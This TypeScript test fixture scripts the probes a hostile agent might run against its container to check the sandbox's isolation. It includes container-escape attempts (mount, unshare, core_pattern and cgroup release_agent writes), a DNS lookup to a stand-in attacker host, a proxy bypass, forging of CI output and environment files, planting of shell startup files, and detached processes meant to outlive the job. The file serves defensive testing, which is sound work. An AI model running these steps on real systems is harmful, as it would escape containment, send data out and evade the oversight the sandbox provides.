/** The script of `isolation.engine.test.ts`: what a hostile agent tries on its container. */

import { sectionedScript } from '../../testing/engine/sections.ts';

/** Actions that need a capability. Each prints its name if it succeeds. */
const PRIVILEGED: Readonly<Record<string, string>> = {
  mount: 'mount -t tmpfs none /mnt',
  'bind mount': 'mount --bind /usr /var/tmp',
  'user namespace': 'unshare --user --map-root-user true',
  'mount namespace': 'unshare --mount true',
  device: 'mknod /tmp/disk b 8 0',
  chroot: 'chroot / /bin/true',
  'host name': 'hostname elsewhere',
  core_pattern: ': >> /proc/sys/kernel/core_pattern',
  'raw socket': `perl -e 'socket(my $s, 2, 3, 1) or exit 1'`,
  'packet socket': `perl -e 'socket(my $s, 17, 3, 768) or exit 1'`,
};

export const PRIVILEGED_NAMES = Object.keys(PRIVILEGED);

const attempt = (names: Readonly<Record<string, string>>): string =>
  Object.entries(names)
    .map(([name, script]) => `if (${script}) > /dev/null 2>&1; then echo '${name}'; fi`)
    .join('\n');

/** The same script for a container that is allowed all of it. */
export const PRIVILEGED_SCRIPT = attempt(PRIVILEGED);

const READ_ONLY = [
  '/',
  '/usr',
  '/usr/local/bin',
  '/bin',
  '/lib',
  '/opt',
  '/etc',
  '/tmp/awf-lib',
  '/sys',
  '/dev',
  '/proc/sys/kernel',
];

/** The engine's own resolver is at 127.0.0.11 whatever resolv.conf contains. It forwards queries to 127.0.0.1. */
const RESOLVE = `
  const dns = require("dns");
  const seen = [];
  const server = require("dgram").createSocket("udp4", (message) => seen.push(message.toString("latin1")));
  const ask = (servers) => new Promise((done) => {
    const from = Date.now();
    const resolver = new dns.Resolver({ timeout: 700, tries: 1 });
    if (servers) resolver.setServers(servers);
    resolver.resolve4("data.attacker.example", (error) => done({ code: error ? error.code : "resolved", ms: Date.now() - from }));
  });
  (async () => {
    const own = await ask();
    await new Promise((done) => server.bind(53, "127.0.0.1", done));
    const engine = await ask(["127.0.0.11"]);
    console.log(JSON.stringify({ own, engine, back: seen.filter((query) => query.includes("attacker")).length }));
    process.exit();
  })();`;

export interface Surroundings {
  /** A unique text that the script leaves wherever it can. */
  readonly mark: string;
  /** The paths of the job's own command files. */
  readonly commandFiles: readonly string[];
  readonly toolCache: string;
}

/** Waits in the workspace for `targets.json` and `pids`, and finally for `end`. `dial.mjs` is there from the start. */
export function isolationScript({ mark, commandFiles, toolCache }: Surroundings): string {
  const writable = [...READ_ONLY, toolCache, '.', '/tmp'].map((path): [string, string] => [
    path,
    `touch ${path}/${mark}`,
  ]);
  const beat = `trap "" HUP INT TERM; while :; do echo ${mark} >> heart; sleep 0.1; done`;
  return sectionedScript({
    identity: "id -u; id -g; grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status",
    writable: attempt(Object.fromEntries(writable)),
    root: `awk '$5 == "/" || $5 == "/usr" { print $5, $6 }' /proc/self/mountinfo`,
    X1: `node -e '${RESOLVE}'`,
    'X1 getent': 'getent hosts data.attacker.example; echo "exit $?"',
    X4: 'cat /proc/net/if_inet6 /proc/net/ipv6_route',
    E7: PRIVILEGED_SCRIPT,
    'E7 devices': `find /dev -type b
      for file in /proc/sysrq-trigger /sys/kernel/uevent_helper $(find /sys/fs/cgroup -name release_agent); do
        (: >> $file) && echo $file
      done 2> /dev/null`,
    'E2 job files': commandFiles
      .map((path) => `mkdir -p ${path} && rmdir ${path}; echo FORGED=1 >> ${path} && cat ${path}`)
      .join('\n'),
    'E2 own files':
      'echo FORGED=1 >> "$GITHUB_OUTPUT"; cat "$GITHUB_OUTPUT"; echo "$GITHUB_ENV$GITHUB_PATH$GITHUB_STATE"',
    E6: `workspace=$PWD; cd ~ && mkdir -p .config
      for file in .bashrc .npmrc .config/x "$workspace/kept"; do echo ${mark} > "$file" && cat "$file"; done`,
    'the wait': 'until [ -e targets.json ]; do sleep 0.05; done',
    dial: 'node dial.mjs targets.json',
    X17: `unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY; export NO_PROXY='*' no_proxy='*'
      curl -sS -m 5 http://allowed.example/; echo "exit $?"`,
    R9: `for pid in $(cat pids); do kill -0 $pid && echo "signalled $pid"; [ -e /proc/$pid/mem ] && echo "sees $pid"; done
      for kind in pid ipc net mnt uts; do readlink /proc/self/ns/$kind; done`,
    D4: `(setsid bash -c '${beat}' > /dev/null 2>&1 < /dev/null &)
      (nohup bash -c '${beat}' > /dev/null 2>&1 < /dev/null &)
      (setsid bash -c '(bash -c "$1" &) &' - '${beat}' > /dev/null 2>&1 < /dev/null &)
      sleep 1; wc -l < heart`,
    'the end': 'until [ -e end ]; do sleep 0.05; done',
  });
}
